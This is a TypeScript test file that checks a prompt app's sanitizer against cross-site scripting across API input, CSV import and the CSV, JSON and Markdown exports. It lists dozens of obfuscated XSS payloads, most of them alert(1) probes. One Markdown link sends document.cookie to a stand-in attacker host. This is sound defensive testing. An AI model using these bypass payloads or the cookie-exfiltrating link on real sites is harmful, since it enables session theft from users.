import type { PromptListResponse } from '@promptnest/core';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestClient } from './client.js';
import { createUser } from './factories.js';
import { findLiveScript, findLiveScriptInMarkdown } from './find-live-script.js';
import { buildTestApp, createTestDatabase, type TestApp, type TestDatabase } from './harness.js';
import { giveSubscription } from './subscription-factory.js';

/**
 * Stored text that once slipped past the sanitizer (docs/decisions/0003-content-validation-schemes.md),
 * saved through API v1 and through an import, then read back from every export format as a plain HTML
 * viewer or a Markdown viewer would read it: nothing may run script.
 */

/** Kept, with what could run removed. */
const stored = [
  '<svg/onload=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<details/open/ontoggle=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<a href="x"onclick="alert(1)">x</a>',
  '<svg onload\n=\nalert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<style><img src=x onerror=alert(1)></style>',
  '<div style="width: ex/**/pression(alert(1))">x</div>',
  '<frame srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<input autofocus onfocus=alert(1)>',
];

/** Refused with 'Text contains invalid content': a script URL however it is written, or a script tag. */
const refused = [
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="java&#09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="javascript: alert(1)">x</a>',
  '<A HREF="VBSCRIPT:msgbox(1)">x</A>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</script>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '[click](jav&#x61;script:alert(1))',
  '<object data=x>',
  // A Markdown viewer reads a backslash before punctuation as that character: `javascript\:` links as `javascript:`.
  '[Open the docs](javascript\\:fetch("https://evil.example/?"+document.cookie))',
  '[x][r]\n\n[r]: javascript\\:alert(1)',
];

let db: TestDatabase;
let t: TestApp;
let client: TestClient;

beforeAll(async () => {
  db = await createTestDatabase();
  t = buildTestApp(db);
  await createUser(t, { admin: true });
  const owner = await createUser(t);
  client = owner.client;
  await giveSubscription(t, owner.id, { tier: 'Max' });
});
afterAll(() => db.drop());

const oneLine = (text: string) => text.replace(/\s+/g, ' ');
const csvField = (text: string) => `"${text.replaceAll('"', '""')}"`;

async function download(path: string): Promise<Response> {
  const res = await t.app.request(path, { headers: { cookie: client.cookieHeader } });
  expect(res.status, path).toBe(200);
  return res;
}

describe('text that slipped past the sanitizer, through every way in and every export', () => {
  it('API v1 refuses every disguised script URL and script tag, in every text field, and stores nothing', async () => {
    for (const payload of refused) {
      // A one-line field cannot hold a line break (a different refusal), so those payloads go to multi-line fields only.
      const fields = payload.includes('\n') ? (['content', 'description'] as const) : (['content', 'description', 'title', 'creditName'] as const);
      for (const field of fields) {
        const body = { title: 'Refused', content: 'x', [field]: payload };
        const res = await client.post('/api/v1/prompts', body);
        expect(res.status, `${field}: ${payload}`).toBe(400);
        expect(res.body, `${field}: ${payload}`).toMatchObject({ fields: { [field]: 'Text contains invalid content' } });
      }
    }
    expect((await client.get<PromptListResponse>('/api/v1/prompts?limit=100')).body.items).toEqual([]);
  });

  it('API v1 and an import store the rest with what could run removed', async () => {
    for (const [index, payload] of stored.entries()) {
      const res = await client.post('/api/v1/prompts', { title: `API ${index} ${oneLine(payload)}`, description: payload, content: payload, creditName: oneLine(payload) });
      expect(res.status, payload).toBe(201);
      expect(findLiveScript(String(res.body.content)), payload).toEqual([]);
    }
    const rows = [...stored, ...refused].map((payload, index) => `${csvField(`Imported ${index}`)},${csvField(payload)}`);
    const imported = await client.post('/api/v1/import', { fileName: 'prompts.csv', data: `act,prompt\n${rows.join('\n')}\n` });
    expect(imported.status).toBe(200);
    expect(imported.body).toMatchObject({ imported: stored.length, invalidCount: refused.length });
    expect((await client.get<PromptListResponse>('/api/v1/prompts?limit=100')).body.items).toHaveLength(stored.length * 2);
  });

  it('the CSV export, opened as a web page, runs nothing', async () => {
    const csv = await (await download('/api/v1/export')).text();
    expect(csv).toContain('Imported 0');
    expect(findLiveScript(csv)).toEqual([]);
  });

  it('the JSON export runs nothing, as a page or field by field', async () => {
    const json = await (await download('/api/v1/export.json')).text();
    expect(findLiveScript(json)).toEqual([]);
    const file = JSON.parse(json) as { prompts: Array<Record<string, unknown>> };
    expect(file.prompts).toHaveLength(stored.length * 2);
    for (const prompt of file.prompts) {
      for (const value of Object.values(prompt)) if (typeof value === 'string') expect(findLiveScript(value), value).toEqual([]);
    }
  });

  it('the Markdown files in the .zip run nothing, as a page or rendered as Markdown', async () => {
    const files = unzipSync(new Uint8Array(await (await download('/api/v1/export.md.zip')).arrayBuffer()));
    expect(Object.keys(files)).toHaveLength(stored.length * 2);
    for (const [name, bytes] of Object.entries(files)) {
      const markdown = strFromU8(bytes);
      expect(findLiveScript(markdown), name).toEqual([]);
      expect(findLiveScriptInMarkdown(markdown), name).toEqual([]);
    }
  });

  it('the oracle itself sees what the old patterns let through', () => {
    expect(findLiveScript('<svg/onload=alert(1)>')).toContain('<svg> handler onload');
    expect(findLiveScript('<a href="java&#09;script:alert(1)">x</a>')).toContain('<a> script URL in href');
    expect(findLiveScript('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')).toContain('<img> handler onerror');
    expect(findLiveScriptInMarkdown('[click](jav&#x61;script:alert(1))')).toContain('<a> script URL in href');
    expect(findLiveScriptInMarkdown('[Open the docs](javascript\\:fetch("https://evil.example/?"+document.cookie))')).toContain('<a> script URL in href');
    expect(findLiveScriptInMarkdown('[x][r]\n\n[r]: javascript\\:alert(1)')).toContain('<a> script URL in href');
  });
});
